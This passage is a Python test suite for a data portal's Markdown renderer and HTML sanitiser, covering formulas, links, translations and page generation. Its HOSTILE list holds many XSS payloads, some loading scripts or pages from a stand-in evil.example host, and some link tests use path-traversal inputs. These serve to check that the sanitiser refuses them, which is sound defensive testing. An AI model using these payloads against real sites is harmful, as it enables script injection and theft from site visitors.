"""Documents: Markdown in, safe pages out, and errors that say where."""

from __future__ import annotations

import functools
import json
import re
import shutil
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from xml.etree import ElementTree

import duckdb
import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from drportal.check import check_documents
from drportal.documents.bibliography import Bibliography, read_bibliography
from drportal.documents.draft import FEATURES, WORDS, _Converter, features_of
from drportal.documents.drafts import Drafts
from drportal.documents.facts import Declared
from drportal.documents.find import find_documents
from drportal.documents.formulas import in_one_line, to_mathml
from drportal.documents.markdown import Document, render_markdown
from drportal.documents.plain import Plain
from drportal.documents.sanitise import ATTRIBUTES, MATHML, RESERVED_IDS, TAGS
from drportal.i18n import Language
from drportal.metadata.sky import sky_functions
from drportal.model import load_portal
from drportal.pages.kinds import document
from drportal.pages.plan import plan_pages
from drportal.pages.registry import known_pages
from drportal.pages.site import Site
from drportal.pages.write import document_files
from drportal.problems import InputError
from drportal.simulate import schema_of, simulate

ROOT = Path(__file__).resolve().parents[2]
FILE = Path("content/page.md")


def as_it_is(target: str, *, image: bool) -> str:
    return target


def render(text: str) -> Document:
    return render_markdown(text, file=FILE, resolve=as_it_is)


def html(text: str) -> str:
    return render(f"# Title\n\n{text}").html


def complaints(text: str) -> list[str]:
    with pytest.raises(InputError) as caught:
        render_markdown(text, file=FILE)
    return [str(problem) for problem in caught.value.problems]


# --- what Markdown becomes


def test_title_leaves_the_text() -> None:
    document = render("# A *fine* title\n\ntext\n\n# Another\n")
    assert document.title == "A fine title"
    assert (
        document.html == '<p>text</p>\n<h2 id="another"><a class="anchor" href="#another">Another</a></h2>\n'
    )


def test_headings_make_a_table_of_contents() -> None:
    document = render("# T\n\n## One & two\n\n### Inner\n\n## 红移\n\n## Named {#anchor}\n")
    assert [(h.id, h.title) for h in document.toc] == [
        ("one-two", "One & two"),
        ("红移", "红移"),
        ("anchor", "Named"),
    ]
    assert [h.title for h in document.toc[0].children] == ["Inner"]
    assert document.ids == {"one-two", "inner", "红移", "anchor"}


def test_headings_never_take_the_ids_of_the_page() -> None:
    text = "# T\n\n" + "".join(f"## {name.capitalize()}\n\n" for name in sorted(RESERVED_IDS))
    assert not render(text + '<p id="page">x</p>').ids & RESERVED_IDS


def test_reserved_ids_are_those_of_the_templates() -> None:
    templates = ROOT / "themes" / "default" / "templates"
    used = set()
    for name in ("base.html", "macros.html", "document.html"):
        used |= set(re.findall(r'\bid="([\w-]+)"', (templates / name).read_text(encoding="utf-8")))
    assert used <= RESERVED_IDS


def test_tables_scroll_and_align_without_style() -> None:
    text = html("| a | b |\n|---|--:|\n| x | 1 |\n")
    assert 'tabindex="0" role="group" aria-label="Table"><table>' in text
    assert '<td class="align-right">1</td>' in text
    assert text.count("<div") == text.count("</div>") == 1
    assert "style" not in text


def test_table_without_heads_has_them_in_the_first_column() -> None:
    text = html("| | |\n|---|---|\n| a | 1 |\n")
    assert "<thead>" not in text and '<th scope="row">a</th>' in text and "<td>1</td>" in text


def test_code_has_classes_and_no_style() -> None:
    text = html("```python\ndef f(): return '<b>'\n```\n")
    assert '<span class="k">def</span>' in text
    assert "&lt;b&gt;" in text and "style" not in text
    assert "$x$" in html("`$x$`")


def test_footnotes_definitions_abbreviations_admonitions_figures() -> None:
    text = html(
        "HTML here[^1]\n\n[^1]: Note text.\n\nTerm\n:   Meaning\n\n*[HTML]: Hypertext\n\n"
        '!!! warning\n    Careful.\n\n??? note "More"\n    Folded.\n\n![Alt](a.png "The caption")\n'
    )
    assert '<a class="footnote-ref" href="#fn:1">' in text and '<li id="fn:1">' in text
    assert "<dt>Term</dt>" in text and "<dd>Meaning</dd>" in text
    assert '<abbr title="Hypertext">HTML</abbr>' in text
    assert '<div class="admonition warning">' in text and "Warning</p>" in text
    assert '<details class="note">\n<summary>More</summary>' in text
    assert '<figure id="figure-1"><img alt="Alt" src="a.png"><figcaption>' in text


def test_added_words_are_translated() -> None:
    words = {"Note": "注", "Back to the text": "返回正文", "Table": "表"}
    text = render_markdown(
        "# T\n\n!!! note\n    x\n\na[^1]\n\n[^1]: b\n\n|a|\n|-|\n|1|\n",
        file=FILE,
        translate=lambda word: words.get(word, word),
    ).html
    assert ">注</p>" in text and 'title="返回正文"' in text and 'aria-label="表"' in text


def test_front_matter() -> None:
    toml = render('+++\ntitle = "From above"\norder = 2\ndescription = "d"\n+++\ntext')
    yaml = render("---\ntitle: From above\norder: 2\ndescription: d\n---\ntext")
    assert toml == yaml
    assert (toml.title, toml.order, toml.description) == ("From above", 2, "d")
    assert toml.html == "<p>text</p>\n"
    assert render("\ufeff# T\r\n\r\ntext").html == "<p>text</p>\n"


# --- formulas


def mathml(text: str) -> list[ElementTree.Element]:
    found = re.findall(r"<math.*?</math>", html(text), re.DOTALL)
    return [ElementTree.fromstring(m.replace("&nbsp;", " ")) for m in found]


@pytest.mark.parametrize(
    "formula",
    [
        r"z = \frac{\lambda_\text{obs} - \lambda_0}{\lambda_0}",
        r"\chi^2 = \sum_{k=1}^{n} \frac{(v_k - \bar v)^2}{\sigma_k^2}",
        r"\sqrt{a < b} \quad \text{if } x \in [0, 1) \& y",
        r"\begin{pmatrix} a & b \\ c & d \end{pmatrix}",
        r"\begin{cases} x & y > 0 \\ 0 & \text{else} \end{cases}",
        r"[\mathrm{Fe}/\mathrm{H}] \approx -0.5 \pm 0.1\,\mathrm{dex}",
        r"\text{<script>alert(1)</script>}",
        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
    ],
)
def test_formulas_become_well_formed_mathml(formula: str) -> None:
    inline, block = mathml(f"Text ${formula}$ text.\n\n$$\n{formula}\n$$\n")
    assert inline.get("display") == "inline" and block.get("display") == "block"
    for root in (inline, block):
        assert {element.tag for element in root.iter()} <= MATHML
        assert "\\" not in "".join(root.itertext())


def test_upright_words_stay_whole() -> None:
    (formula,) = mathml(r"$[\mathrm{Fe}/\mathrm{H}]$")
    assert [e.text for e in formula.iter("mtext")] == ["Fe", "H"]


def test_money_is_not_maths() -> None:
    text = html(r"It costs $5 or \$6, not $ 7 $.")
    assert "<math" not in text and "$5" in text and "$6" in text


@pytest.mark.parametrize(
    ("formula", "line"),
    [
        (r"\frac{a+b}{2}", "(a+b)/2"),
        (r"\frac{F_i}{\sqrt{a+b}} = x^{2}", "F_i/√(a+b) = x^2"),
        (r"x_{i+1}^{-2}", "x_(i+1)^(-2)"),
        (r"\frac{1}{1 - \frac{v}{c}}", "1/(1-v/c)"),
        (r"10^{-4} < \sigma", "10^(-4) < σ"),
    ],
)
def test_formulas_in_excerpts_keep_their_brackets(formula: str, line: str) -> None:
    said = in_one_line(to_mathml(formula, display=False))
    assert said.replace("\u2212", "-") == line


def test_formula_in_lists_and_tables() -> None:
    assert len(mathml("- a\n\n    $$\n    x^2\n    $$\n\n| a |\n|---|\n| $y$ |\n")) == 2


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("# T\n\ntext $x_1_2$", 3, "double subscripts"),
        ("# T\n\n\n$$\n\\notacommand{x}\n$$", 5, "\\notacommand"),
        ("# T\n\n$\\frac{a$", 3, "{ or }"),
        ("# T\n\n$\\left( x$", 3, "left"),
        ("# T\n\n$a & b$", 3, "&"),
        ("# T\ntext\n$$\nx\n$$\nmore", 3, "$$"),
    ],
)
def test_errors_in_formulas_name_the_line(text: str, line: int, words: str) -> None:
    (said,) = complaints(text)
    assert said.startswith(f"content/page.md: line {line}: ") and words in said


# --- errors


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("no title", "line 1: has no title"),
        ("# T\n\nsee\n[x](nowhere.md)", "line 4: link 'nowhere.md' leads nowhere"),
        ("# T\n\n![x](nowhere.png)", "line 3: image 'nowhere.png' leads nowhere"),
        ('# T\n\n<a href="nowhere.md">x</a>', "line 3: link 'nowhere.md' leads nowhere"),
        ("# T\n\n[x](#nowhere)", "line 3: links to #nowhere"),
        ("# T\n\n![x](https://example.org/a.png)", "line 3: shows an image of another site"),
        ("# T\n\n[x](//example.org/a)", "line 3: links to //example.org/a"),
        ("+++\norder = \n+++\n# T", "line 2, column 9"),
        ("+++\nordr = 1\n+++\n# T", "ordr: unknown key; did you mean `order`?"),
        ("+++\norder = 1\n# T", "line 1: opens TOML front matter"),
        ("---\ntitle: [\n---\n# T", "is not YAML"),
        ("---\n- a\n---\n# T", "front matter that is not a list of keys"),
    ],
)
def test_errors_name_file_and_line(text: str, said: str) -> None:
    assert any(s.startswith("content/page.md: ") and said in s for s in complaints(text))


def test_all_problems_of_a_document_come_together() -> None:
    assert len(complaints("# T\n[a](a.md) $x_1_2$\n\n[b](b.md)")) == 3


# --- nothing that runs, loads or restyles

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    '<img src="x.png" onerror=alert(1)>',
    "<img src=x.png onerror=alert(1)//",
    '<img src="javascript:alert(1)" alt="">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](a.png "t" onclick=alert(1))',
    "# H {: onclick=alert(1) style=color:red }",
    "[x](https://e.example){: onmouseover=alert(1) target=_blank }",
    '<p style="position:fixed;inset:0">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="//evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><maction actiontype="statusline#//evil" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    '<span class="arithmatex">\\(\\text{<script>alert(1)</script>}\\)</span>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    '<a href="https://e.example" rel="opener" target="_top" ping="//evil.example">x</a>',
    '<p title="&quot;><script>alert(1)</script>">x',
    '<a title=\'<a href="https://evil.example" onclick="alert(1)">\' href="https://e.example">x</a>',
    '<p title="</table><table onclick=alert(1)>">x</p>',
    "```html\n<script>alert(1)</script>\n```",
    '```{.python onclick=alert(1) style="x"}\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x.png onerror=alert(1)> |",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "a[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    '!!! note "<script>alert(1)</script>"\n    x',
    '??? "x onclick=alert(1)" "<img src=x.png onerror=alert(1)>"\n    x',
    "## <script>alert(1)</script> heading",
    "<div><p><b>never closed",
    "</article></main></body></html><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]  # fmt: skip


class Harmless(HTMLParser):
    """Fails at any element or attribute that is not allowed, and at unbalanced markup."""

    void = frozenset({"br", "col", "hr", "img", "wbr"})
    added = frozenset({"aria-label", "rel", "role", "tabindex"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | MATHML, tag
        for name, value in attrs:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | self.added, (tag, name)
            if name in ("href", "src"):
                scheme = re.match(r"[\s\x00-\x1f]*([a-z][a-z0-9+.-]*):", value or "", re.IGNORECASE)
                assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), value
                assert not (name == "src" and scheme), value
                assert not re.match(r"[\s\x00-\x1f]*[/\\]{2}", value or ""), value
        if tag not in self.void:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(text: str) -> None:
    try:
        found = html(text)
    except InputError:
        return  # refused, which is as good
    parser = Harmless()
    parser.feed(found)
    parser.close()
    assert parser.open == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    assert_harmless(text)
    assert_harmless(f"- a\n\n    {text}\n\n> {text}\n\n| a |\n|---|\n| {text} |\n")


@settings(deadline=None, max_examples=150)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "*", "\n\n", "<p>", "$", "text"]), max_size=5
    )
)
def test_hostile_mixtures_are_harmless(parts: list[str]) -> None:
    assert_harmless("".join(parts))


PLAIN = [
    "words",
    " ",
    "(a), b: c.",
    "  \n",
    "\n",
    "\n\n",
    "- ",
    "# ",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
    "é。",
]
MARKS = [
    "*",
    "_",
    "`",
    "\\",
    "$",
    "[",
    "]",
    "(x)",
    "!",
    "<",
    "&amp;",
    "<b>",
    "[^1]",
    "\n\n[^1]: note\n",
    "[@k]",
]
LATER = [
    "\n\n*[words]: An abbreviation\n\n",
    "{: .c }",
    "{#id}",
    "\n!!! note\n    text\n",
    "\x02",
    "```\na\n```\n",
]


@settings(deadline=None)
@given(st.lists(st.sampled_from([*PLAIN, *MARKS, *LATER]), max_size=12))
def test_text_that_is_passed_over_would_have_come_out_the_same(parts: list[str]) -> None:
    text = "".join(parts)
    results = [one.convert(text, Bibliography({}, str, lambda *_: None)) for one in _converters()]
    assert results[0] == results[1]


@functools.cache
def _converters() -> tuple[_Converter, _Converter]:
    """One that passes over plain text, and one that does not."""
    with pytest.MonkeyPatch.context() as patch:
        usual = _Converter(WORDS)
        patch.setattr(Plain, "extendMarkdown", lambda _self, _md: None)
        return usual, _Converter(WORDS)


BLOCKS = [
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "> ",
    "- ",
    "1. ",
    "# A: b\n",
    "Term\n: meaning\n",
    ": ",
    ":",
    "a:b",
    "|",
    "~~~\n",
    "~",
    "$$x$$",
    "??? note\n    text\n",
    "!!!",
    "=",
    "---\n",
]


@settings(deadline=None)
@given(st.lists(st.sampled_from([*PLAIN, *MARKS, *LATER, *BLOCKS]), max_size=12))
@example(["Term", "\n", ": ", "words"])
@example(["Term", "\n", ":", "\t", "words"])
@example(["> ", "Term", "\n", "> ", ": ", "words"])
@example(["- ", "words", "\n\n", "\t", "more"])
def test_syntax_that_a_text_does_not_use_makes_no_difference(parts: list[str]) -> None:
    text = "".join(parts)
    converters = _with(features_of(text)), _with(tuple(FEATURES))
    results = [one.convert(text, Bibliography({}, str, lambda *_: None)) for one in converters]
    assert results[0] == results[1]


@functools.cache
def _with(features: tuple[str, ...]) -> _Converter:
    return _Converter(WORDS, features)


def test_links_that_leave_say_so() -> None:
    text = html('[a](https://e.example) <a href="HTTP://e.example/b">b</a> [c](other.md) <mail@e.example>')
    assert text.count('rel="noopener external"') == 2
    assert 'href="other.md">' in text and 'href="mailto:mail@e.example"' in text


def test_a_draft_is_shared_where_its_links_stand_for_the_same(tmp_path: Path) -> None:
    drafts, asked = Drafts(tmp_path), []

    def render(text: str, there: str) -> str:
        def resolve(target: str, *, image: bool) -> str:
            asked.append(target)
            return there + target

        return render_markdown(text, file=FILE, resolve=resolve, drafts=drafts).html

    text = "# T\n\n## Part\n\n[a](a.md) $x^2$\n\n| a |\n|---|\n| 1 |\n"
    first = render(text, "here/")
    assert render(text, "here/") == first and 'href="here/a.md"' in first
    assert render(text, "there/") == first.replace("here/a.md", "there/a.md")
    assert asked == ["a.md"] * 4 and len(drafts) == 2
    drafts.write()
    (file,) = (p for p in tmp_path.rglob("*") if p.is_file())
    drafts = Drafts(tmp_path)
    assert render(text, "here/") == first and len(drafts) == 2
    whole = file.read_bytes()
    for damaged in (whole.replace(b"Part", b"Pert"), b"", b"[{}]\n"):
        file.write_bytes(damaged)
        drafts = Drafts(tmp_path)
        assert render(text, "here/") == first and len(drafts) == 1, "made again"
        drafts.write()
        assert len(json.loads(file.read_bytes().splitlines()[0])) == 1
    with pytest.raises(InputError):
        render("no title", "here/")


def test_drafts_that_other_processes_have_written_are_kept(tmp_path: Path) -> None:
    """This process adopts one of the two that a worker has written, and adds a third of the same text."""

    def render(drafts: Drafts, there: str) -> str:
        def resolve(target: str, *, image: bool) -> str:
            return there + target

        return render_markdown("# T\n\n[a](a.md)\n", file=FILE, resolve=resolve, drafts=drafts).html

    worker, own = Drafts(tmp_path), Drafts(tmp_path)
    made = {"one/": render(worker, "one/"), "two/": render(worker, "two/")}
    own.take(worker.stored()[1:])
    made["three/"] = render(own, "three/")
    own.write()
    (file,) = (p for p in tmp_path.rglob("*") if p.is_file())
    written, later = file.read_bytes(), Drafts(tmp_path)
    assert {there: render(later, there) for there in made} == made and len(later) == 3
    later.write()
    assert file.read_bytes() == written, "nothing was made again"


# --- a portal's documents


@dataclass(frozen=True)
class View(Declared):
    """A catalogue without data."""

    title: dict[str, str] = field(default_factory=dict)
    is_mapped: bool = True
    matches: tuple[str, ...] = ()


class Folder:
    """A portal in a temporary folder."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.write("portal.toml", 'name = "S"\ntitle = "S"\nlanguages = ["en", "zh"]\n')
        self.write("releases/dr1/release.toml", 'name = "DR1"\npublished = "2020"\n')

    def write(self, name: str, text: str | bytes) -> None:
        file = self.path / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text if isinstance(text, bytes) else text.encode())

    def render(self, *catalogues: str) -> dict[tuple[str, str], dict[str, Any]]:
        """What templates of documents know, by language and path."""
        portal = load_portal(self.path)
        release = portal.releases[0]
        views = [View(c, None) for c in catalogues]
        packed = [SimpleNamespace(name=spec.name, meta=None) for spec in release.spectra]
        words: Any = SimpleNamespace(language=Language)
        documents = find_documents(portal, release)
        site = Site(portal, release, words, views, packed, documents, known_pages=known_pages)  # type: ignore[arg-type]
        site.checksums = {}
        found = {}
        for planned in plan_pages(site):
            if planned.page.template in ("document.html", "documents.html"):
                context = planned.page.context(site.local(planned.lang), planned)
                said = {"kind": planned.kind, "title": planned.title, "description": planned.description}
                found[planned.lang, planned.path] = said | vars(context)
        written = {path for lang, path in found if lang == "en"}
        assert written == {path for lang, path in found if lang == "zh"} == documents.paths
        for path, file in document_files(site).items():
            (self.path / "out" / path).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(file, self.path / "out" / path)
        return found

    def complaints(self) -> list[str]:
        with pytest.raises(InputError) as caught:
            self.render()
        return [str(problem) for problem in caught.value.problems]


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def test_language_variants_and_fallback(folder: Folder) -> None:
    folder.write("content/both.md", "# Both")
    folder.write("content/both.zh.md", "# 两者")
    folder.write("content/only.md", "# Only English")
    folder.write("content/solely.zh.md", "# 仅中文")
    pages = folder.render()
    assert pages["en", "docs/both.html"]["title"] == "Both"
    assert pages["zh", "docs/both.html"]["title"] == "两者"
    shown = pages["zh", "docs/only.html"]
    assert (shown["title"], shown["written_in"], shown["written_name"]) == ("Only English", "en", "English")
    assert pages["en", "docs/solely.html"]["written_in"] == "zh"
    assert pages["zh", "docs/both.html"]["written_in"] == "zh"


def test_index_order_and_turning(folder: Folder) -> None:
    folder.write("content/c.md", "+++\norder = 1\ndescription = 'first'\n+++\n# C")
    folder.write("content/a.md", "# A")
    folder.write("content/b.md", "# B")
    folder.write("content/help.md", "# Help")
    pages = folder.render()
    listed = pages["en", "docs/index.html"]["listed"]
    assert [d.title for d in listed] == ["C", "A", "B"]
    assert listed[0].description == "first"
    middle = pages["en", "docs/a.html"]
    assert (middle["before"].title, middle["after"].title) == ("C", "B")
    assert pages["en", "docs/c.html"]["before"] is None and pages["en", "docs/b.html"]["after"] is None
    helped = pages["en", "help.html"]
    assert (helped["kind"], helped["before"], helped["after"]) == ("help", None, None)


def test_of_many_documents_the_nearest_are_listed(folder: Folder, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(document, "SHOWN", 3)
    for name in "abcdef":
        folder.write(f"content/{name}.md", f"# {name.upper()} & co")
    pages = folder.render()
    assert [d.title for d in pages["en", "docs/index.html"]["listed"]] == [f"{n} & co" for n in "ABCDEF"]
    for name, shown in {"a": "ABC", "c": "BCD", "f": "DEF"}.items():
        page = pages["zh", f"docs/{name}.html"]
        assert [d.title[0] for d in page["listed"]] == list(shown)
        addresses = re.findall(r'href="([^"]+)"', page["links"])
        assert addresses == [f"../../zh/docs/{n.lower()}.html" for n in shown]
        assert f'{name}.html" aria-current="page">{name.upper()} &amp; co</a></li>\n' in page["links"]
        assert page["links"].count("aria-current") == 1


def test_links_lead_to_pages(folder: Folder) -> None:
    folder.write(
        "content/guide/a.md", "# A\n\n[b](../b.md#part) [help](../help.md) [s](/search.html?class=STAR)"
    )
    folder.write(
        "content/b.md",
        "# B\n\n## Part\n\n[a](guide/a.md) [data](/data.html) [sky](/sky.html) [home](/index.html)",
    )
    folder.write("content/help.md", "# Help\n\n[a](guide/a.md) [c](/catalogues/lrs.html)")
    pages = folder.render("lrs")
    a, b, helped = (pages["zh", p]["body"] for p in ("docs/guide/a.html", "docs/b.html", "help.html"))
    assert 'href="../b.html#part"' in a and 'href="../../help.html"' in a
    assert 'href="../../search.html?class=STAR"' in a
    assert 'href="guide/a.html"' in b and 'href="../index.html"' in b
    assert 'href="../data.html"' in b and 'href="../sky.html"' in b
    assert 'href="docs/guide/a.html"' in helped and 'href="catalogues/lrs.html"' in helped


def test_links_to_pages_that_a_release_lacks_are_plain_words(folder: Folder) -> None:
    folder.write("content/a.md", "# A\n\n[Search](/search.html) [Home](/index.html)")
    body = folder.render()["en", "docs/a.html"]["body"]
    assert "<p>Search <a href" in body and 'href="../index.html"' in body


def test_release_adds_and_replaces_documents(folder: Folder) -> None:
    folder.write("content/shared.md", "# Shared")
    folder.write("content/lrs.md", "# Of all")
    folder.write("content/lrs.zh.md", "# 通用")
    folder.write("releases/dr1/docs/lrs.md", "# Of DR1")
    folder.write("releases/dr1/docs/notes.md", "# Notes\n\n[lrs](lrs.md) [shared](shared.md)")
    pages = folder.render()
    assert pages["en", "docs/lrs.html"]["title"] == "Of DR1"
    assert pages["zh", "docs/lrs.html"]["title"] == "Of DR1", (
        "a translation of the replaced text would mislead"
    )
    assert ("en", "docs/notes.html") in pages and ("en", "docs/shared.html") in pages


def test_images_and_attachments_are_copied(folder: Folder) -> None:
    folder.write("content/figures/sky.png", b"png")
    folder.write("content/guide.pdf", b"pdf")
    folder.write("content/a.md", "# A\n\n![Sky](figures/sky.png)\n\n[PDF](guide.pdf)")
    folder.write("content/help.md", "# Help\n\n![Sky](figures/sky.png)")
    pages = folder.render()
    assert 'src="figures/sky.png"' in pages["en", "docs/a.html"]["body"]
    assert 'src="../../docs/figures/sky.png"' in pages["zh", "docs/a.html"]["body"]
    assert 'src="docs/figures/sky.png"' in pages["en", "help.html"]["body"]
    assert 'src="../docs/figures/sky.png"' in pages["zh", "help.html"]["body"]
    assert (folder.path / "out/docs/figures/sky.png").read_bytes() == b"png"
    assert (folder.path / "out/docs/guide.pdf").read_bytes() == b"pdf"
    folder.write("releases/dr1/docs/figures/sky.png", b"own")
    folder.render()
    assert (folder.path / "out/docs/figures/sky.png").read_bytes() == b"own"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[x](gone.md)", "'gone.md' leads nowhere"),
        ("[x](b.md#gone)", "has no 'gone'"),
        ("[x](b.html)", "link to the .md file"),
        ("[x](/gone.html)", "not a page of the site"),
        ("![x](gone.png)", "no file 'gone.png'"),
        ("![x](../../secret.png)", "outside the documents"),
        ("![x](/etc/passwd.png)", "outside the documents"),
        ("[x](..%2f..%2fportal.toml)", "outside the documents"),
        ("[x](run.exe)", "not a supported kind of file"),
        ("![x](b.md)", "not a supported kind of image"),
        ("![x](con%20fig.png)", "some file systems cannot store"),
        ("![x](bad.svg)", "contains the handler onload"),
    ],
)
def test_broken_links_of_a_portal_name_file_and_line(folder: Folder, text: str, said: str) -> None:
    folder.write("content/b.md", "# B")
    folder.write("content/con fig.png", b"png")
    folder.write("content/bad.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    folder.write("content/a.md", f"# A\n\n\n{text}\n")
    found = folder.complaints()
    assert len(found) == 1
    assert "content/a.md: line 4: " in found[0] and said in found[0]


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)"/>',
        "<foreignObject/>",
        '<image href="http://e/x"/>',
    ],
)
def test_active_svg_is_refused(folder: Folder, inner: str) -> None:
    folder.write("content/a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>')
    folder.write("content/a.md", "# A\n\n![x](a.svg)")
    assert "save it without" in folder.complaints()[0]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("README.md", "cannot be the name of a page"),
        ("index.md", "but not index"),
        ("con.md", "a device name"),
        ("page.fr.md", "no language 'fr'"),
        ("two words.md", "cannot be the name of a page"),
        ("page.en.md", "same document in the same language"),
    ],
)
def test_file_names_that_cannot_be_pages(folder: Folder, name: str, said: str) -> None:
    folder.write("content/page.md", "# P")
    folder.write(f"content/{name}", "# P")
    assert said in folder.complaints()[0]


def test_problems_of_all_documents_come_together(folder: Folder) -> None:
    folder.write("content/a.md", "# A\n\n[x](gone.md)")
    folder.write("content/b.md", "# B\n\n$\\nope$")
    folder.write("content/c.md", b"# C \xff")
    assert len(folder.complaints()) == 3


def test_check_finds_placeholders_and_broken_links(folder: Folder) -> None:
    folder.write("content/a.md", "# A\n\nThe release holds xxx spectra. [x](gone.md)\n")
    said = [str(problem) for problem in check_documents(load_portal(folder.path))]
    assert len(said) == 2
    assert any("line 3: still says 'xxx'" in s for s in said) and any("gone.md" in s for s in said)


# --- the documents of this repository


@pytest.mark.parametrize("where", [ROOT / "generator" / "starter", ROOT])
def test_own_documents_are_sound(where: Path) -> None:
    portal = load_portal(where)
    assert check_documents(portal) == []
    for file in (where / "content").glob("*.md"):
        assert file.with_name(file.name.split(".")[0] + ".zh.md").is_file(), f"{file.name} is not in Chinese"


def test_own_translations_have_the_same_anchors() -> None:
    for file in (ROOT / "content").glob("*.zh.md"):
        english = file.with_name(file.name.replace(".zh", ""))
        ids = [
            render_markdown(
                f.read_text(encoding="utf-8"),
                file=f,
                resolve=as_it_is,
                references=read_bibliography(ROOT / "content" / "references.bib"),
            ).ids
            for f in (english, file)
        ]
        assert ids[0] == ids[1], file.name


def test_sql_in_own_documents_runs() -> None:
    database = duckdb.connect()
    for name in ("lrs", "lrs_stellar", "mrs"):
        table = pa.Table.from_batches(simulate(name, 3000))
        database.register(name, table)
    database.execute(sky_functions())
    # Few rows are simulated, so a cone is as wide as the sky.
    database.execute("CREATE OR REPLACE MACRO cone(a, b, c, d, e) AS abs(b - d) < 20 AND e > 0")
    blocks = [
        block
        for file in (ROOT / "content").glob("*.md")
        for block in re.findall(r"```sql\n(.*?)```", file.read_text(encoding="utf-8"), re.DOTALL)
    ]
    assert len(blocks) >= 4
    for block in blocks:
        # So few rows have no neighbours within a radius.
        assert database.sql(block).fetchall() or "nearest(" in block, block


def test_columns_in_own_documents_exist() -> None:
    for name, kinds in (("lrs", ("lrs", "lrs_stellar")), ("mrs", ("mrs",))):
        known = {column for kind in kinds for column in schema_of(kind).names}
        for file in (ROOT / "content").glob(f"{name}*.md"):
            rows = re.findall(r"^\| (`.*?) \|", file.read_text(encoding="utf-8"), re.MULTILINE)
            named = {column for row in rows for column in re.findall(r"`(\w+)`", row)} - {"_err"}
            assert len(named) > 10
            assert named <= known, file.name


def test_links_to_spectra_and_objects(folder: Folder) -> None:
    links = "[s](spectrum.html?obsid=101001&set=lrs) [o](object.html?position=10.5,-2) [n](/spectrum.html)"
    folder.write("content/guide/a.md", f"# A\n\n{links}")
    folder.write("content/help.md", f"# Help\n\n{links}")
    without = folder.render("lrs")["zh", "docs/guide/a.html"]["body"]
    assert "<p>s <a" in without and 'href="../../object.html?position=10.5,-2"' in without
    folder.write("releases/dr1/release.toml", WITH_SPECTRA)
